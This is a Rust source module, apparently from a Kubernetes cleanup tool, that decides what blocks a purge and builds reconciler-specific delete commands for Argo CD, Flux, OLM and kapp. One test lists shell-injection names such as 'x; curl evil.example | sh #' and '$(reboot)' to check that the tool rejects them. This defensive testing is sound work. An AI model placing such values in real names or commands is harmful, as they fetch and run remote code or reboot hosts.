//! What stands in the way of a purge until the user says how to go on. Pure.

use std::collections::{BTreeMap, BTreeSet};

use super::{
    Blindness, Plan, Reason, Selection,
    question::{Question, instance_of},
    records::release_of,
};
use crate::inventory::{Controller, Inventory, Object, is_word};

/// Namespaces of the cluster itself.
pub const SYSTEM_NAMESPACES: [&str; 3] = ["kube-system", "kube-public", "kube-node-lease"];

/// A reason to refuse.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Guard {
    /// The label means several instances or releases: each with the number of its objects.
    Ambiguous { instances: Vec<(String, usize)> },
    /// A reconciler would bring the objects back. `command` is what does it properly, where one is known.
    Managed { by: String, command: Option<String>, objects: usize },
    /// Members are controlled by objects of a kind that could not be looked through.
    Unseen { owner: String, objects: usize },
    /// Some of the server's own kinds did not answer. What is tied to the application there would be missed now, and
    /// with what it is tied to gone, by everybody who looks later.
    Unavailable { resources: Vec<String> },
    /// A controller of members also controls objects of other applications, `Kind/name` each.
    SharedParent { parent: String, others: Vec<String> },
    /// The namespace is the cluster's own.
    SystemNamespace,
    /// More objects would be deleted than `--max` allows.
    TooMany { count: usize, max: usize },
}

/// What the user has allowed.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Allowed {
    pub all_instances: bool,
    pub managed: bool,
    pub system_namespace: bool,
    pub unavailable: bool,
    pub max: Option<usize>,
}

/// Groups of the server's own kinds among which ties are looked for. An extension's may be broken for good, and is only
/// told of.
const OWN_GROUPS: [&str; 7] =
    ["", "apps", "autoscaling", "batch", "networking.k8s.io", "policy", "rbac.authorization.k8s.io"];

/// Whether a resource (`pods`, `deployments.apps`) or a version of a group (`v1`, `apps/v1`) is the server's own.
fn is_the_servers_own(resource: &str) -> bool {
    let group = match resource.split_once('/') {
        Some((group, _)) => group,
        None => resource.split_once('.').map_or("", |(_, group)| group),
    };
    OWN_GROUPS.contains(&group)
}

impl Guard {
    /// All that stands in the way of this plan.
    #[must_use]
    pub fn of(
        inventory: &Inventory,
        question: &Question,
        selection: &Selection,
        plan: &Plan,
        allowed: &Allowed,
    ) -> Vec<Self> {
        let mut guards = Vec::new();
        if !allowed.system_namespace && SYSTEM_NAMESPACES.contains(&plan.place.namespace.as_str()) {
            guards.push(Self::SystemNamespace);
        }
        if !allowed.all_instances && question.instance.is_none() {
            guards.extend(ambiguity(inventory, selection));
        }
        guards.extend(selection.guards.iter().cloned());
        if !allowed.managed {
            guards.extend(managers(inventory, plan));
        }
        if !allowed.unavailable {
            let unseen = plan.unseen.iter().filter(|unseen| unseen.why == Blindness::Unavailable);
            let own = unseen.map(|unseen| &unseen.resource).filter(|resource| is_the_servers_own(resource));
            let resources: Vec<String> = own.cloned().collect();
            guards.extend((!resources.is_empty()).then_some(Self::Unavailable { resources }));
        }
        let count = plan.going().count();
        if let Some(max) = allowed.max.filter(|max| count > *max) {
            guards.push(Self::TooMany { count, max });
        }
        guards
    }
}

/// Several instances among the objects that the label picked.
fn ambiguity(inventory: &Inventory, selection: &Selection) -> Option<Guard> {
    let mut instances: BTreeMap<&str, usize> = BTreeMap::new();
    for (&index, reasons) in &selection.members {
        let label = reasons.iter().find_map(|reason| match reason {
            Reason::Label { key, value } | Reason::OrphanLabel { key, value } | Reason::Template { key, value } => {
                Some((key, value))
            }
            _ => None,
        });
        if let Some((key, value)) = label {
            *instances.entry(instance_of(inventory, index, key, value)).or_default() += 1;
        }
    }
    let instances: Vec<_> = instances.into_iter().map(|(name, count)| (name.to_owned(), count)).collect();
    (instances.len() > 1).then_some(Guard::Ambiguous { instances })
}

/// Each reconciler that manages something that goes, once. What stays nobody has to bring back.
fn managers(inventory: &Inventory, plan: &Plan) -> Vec<Guard> {
    let mut found: BTreeMap<Manager, usize> = BTreeMap::new();
    let mut unseen: BTreeMap<String, usize> = BTreeMap::new();
    for index in plan.going().filter_map(|object| inventory.find(&object.uid)) {
        let object = &inventory.objects()[index];
        if let Some(owner) = object.controller().filter(|_| inventory.controller(index) == Controller::Unseen) {
            *unseen.entry(format!("{}/{}", owner.kind, owner.name)).or_default() += 1;
        }
        let manager = Manager::of(&inventory.objects()[index]).or_else(|| outside(inventory, index));
        if let Some(manager) = manager {
            *found.entry(manager).or_default() += 1;
        }
    }
    let guard = |(Manager { by, command }, objects)| Guard::Managed { by, command, objects };
    let unseen = unseen.into_iter().map(|(owner, objects)| Guard::Unseen { owner, objects });
    found.into_iter().map(guard).chain(unseen).collect()
}

/// An operator outside the namespace.
fn outside(inventory: &Inventory, index: usize) -> Option<Manager> {
    let object = &inventory.objects()[index];
    let owner = object.controller().filter(|_| inventory.controller(index) == Controller::Unknown)?;
    Some(Manager { by: format!("{}/{}, which is outside the namespace", owner.kind, owner.name), command: None })
}

/// Who would bring objects back, and what to type instead.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub struct Manager {
    pub by: String,
    pub command: Option<String>,
}

impl Manager {
    /// Without the command where one of the names in it would be taken apart, or carried out, by a shell.
    fn new(by: String, names: [&str; 3], command: String) -> Self {
        Self { by, command: names.into_iter().all(is_word).then_some(command) }
    }

    /// By the marks that reconcilers leave on what they manage.
    #[must_use]
    pub fn of(object: &Object) -> Option<Self> {
        let label = |key: &str| object.labels.get(key).map(String::as_str).filter(|value| !value.is_empty());
        let annotation = |key: &str| object.annotations.get(key).map(String::as_str).filter(|value| !value.is_empty());
        let flux = |name: &str, group: &str, what: &str| {
            let name = name.to_owned();
            let namespace = label(&format!("{group}/namespace")).unwrap_or(&object.namespace);
            Self::new(
                format!("Flux {what} {name}"),
                [&name, namespace, what],
                format!("flux delete {} {name} -n {namespace}", what.to_lowercase()),
            )
        };
        if let Some(name) = annotation("argocd.argoproj.io/tracking-id")
            .and_then(|id| tracked_by(id, object))
            .or_else(|| label("argocd.argoproj.io/instance"))
        {
            return Some(Self::new(
                format!("Argo CD application {name}"),
                [name; 3],
                format!("argocd app delete {}", name.replacen('_', "/", 1)),
            ));
        }
        if let Some(name) = label("kustomize.toolkit.fluxcd.io/name") {
            return Some(flux(name, "kustomize.toolkit.fluxcd.io", "Kustomization"));
        }
        if let Some(name) = label("helm.toolkit.fluxcd.io/name") {
            return Some(flux(name, "helm.toolkit.fluxcd.io", "HelmRelease"));
        }
        if let Some(name) = label("olm.owner") {
            let kind = label("olm.owner.kind").unwrap_or("ClusterServiceVersion");
            let namespace = label("olm.owner.namespace").unwrap_or(&object.namespace);
            let command = format!("kubectl delete {}/{name} -n {namespace}", kind.to_lowercase());
            return Some(Self::new(format!("OLM {kind} {name}"), [kind, name, namespace], command));
        }
        if let Some(app) = label("kapp.k14s.io/app") {
            let namespace = &object.namespace;
            let command = format!("kapp delete -a label:kapp.k14s.io/app={app} -n {namespace}");
            return Some(Self::new(format!("kapp app {app}"), [app, app, namespace], command));
        }
        None
    }
}

/// The application of a tracking id, `APP:GROUP/KIND:NAMESPACE/NAME`, where the id means this very object: a copy of
/// a tracked object carries the id without being tracked.
fn tracked_by<'a>(id: &'a str, object: &Object) -> Option<&'a str> {
    let (app, rest) = id.split_once(':')?;
    let (kind, name) = rest.split_once(':')?;
    let is_this = name == format!("{}/{}", object.namespace, object.name)
        && kind.rsplit_once('/').map_or(kind, |(_, kind)| kind) == object.kind.kind;
    is_this.then_some(app)
}

/// Helm releases among what goes: Helm reconciles nothing, but has its own way to uninstall.
#[must_use]
pub fn helm_releases(inventory: &Inventory, plan: &Plan) -> BTreeSet<String> {
    if plan.orphans {
        return BTreeSet::new();
    }
    let going = plan.going().filter_map(|object| Some(&inventory.objects()[inventory.find(&object.uid)?]));
    going.filter_map(release_of).map(str::to_owned).collect()
}

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use super::*;
    use crate::plan::sample::object;

    #[test]
    fn the_servers_own_kinds_are_told_from_an_extensions() {
        for own in ["pods", "v1", "deployments.apps", "apps/v1", "ingresses.networking.k8s.io"] {
            assert!(is_the_servers_own(own), "{own}");
        }
        for other in ["metrics.k8s.io/v1beta1", "crates.conv.example", "httproutes.gateway.networking.k8s.io"] {
            assert!(!is_the_servers_own(other), "{other}");
        }
    }

    #[test]
    fn a_tracking_id_counts_only_on_the_object_that_it_means() {
        let mut deployment = object("apps", "Deployment", "web");
        let annotate = |object: &mut Object, id: &str| {
            object.annotations.insert("argocd.argoproj.io/tracking-id".into(), id.into());
        };
        annotate(&mut deployment, "shop:apps/Deployment:ns/web");
        let manager = Manager::of(&deployment).unwrap();
        assert_eq!(manager.by, "Argo CD application shop");
        assert_eq!(manager.command.as_deref(), Some("argocd app delete shop"));
        annotate(&mut deployment, "shop:apps/Deployment:ns/other");
        assert_eq!(Manager::of(&deployment), None);
    }

    #[test]
    fn a_name_that_a_shell_would_carry_out_is_in_no_command() {
        let mut deployment = object("apps", "Deployment", "web");
        for name in ["x; curl evil.example | sh #", "$(reboot)", "`reboot`", "--cascade", "x\nreboot", "two words"] {
            let id = format!("{name}:apps/Deployment:ns/web");
            deployment.annotations.insert("argocd.argoproj.io/tracking-id".into(), id);
            let manager = Manager::of(&deployment).unwrap();
            assert_eq!((manager.by, manager.command), (format!("Argo CD application {name}"), None));
        }
    }

    #[test]
    fn each_reconciler_has_its_command() {
        for (key, by, command) in [
            ("argocd.argoproj.io/instance", "Argo CD application x", "argocd app delete x"),
            ("kustomize.toolkit.fluxcd.io/name", "Flux Kustomization x", "flux delete kustomization x -n ns"),
            ("helm.toolkit.fluxcd.io/name", "Flux HelmRelease x", "flux delete helmrelease x -n ns"),
            ("olm.owner", "OLM ClusterServiceVersion x", "kubectl delete clusterserviceversion/x -n ns"),
            ("kapp.k14s.io/app", "kapp app x", "kapp delete -a label:kapp.k14s.io/app=x -n ns"),
        ] {
            let mut object = object("", "ConfigMap", "c");
            Arc::make_mut(&mut object.labels).insert(key.into(), "x".into());
            let manager = Manager::of(&object).unwrap();
            assert_eq!((manager.by.as_str(), manager.command.as_deref()), (by, Some(command)));
        }
    }
}
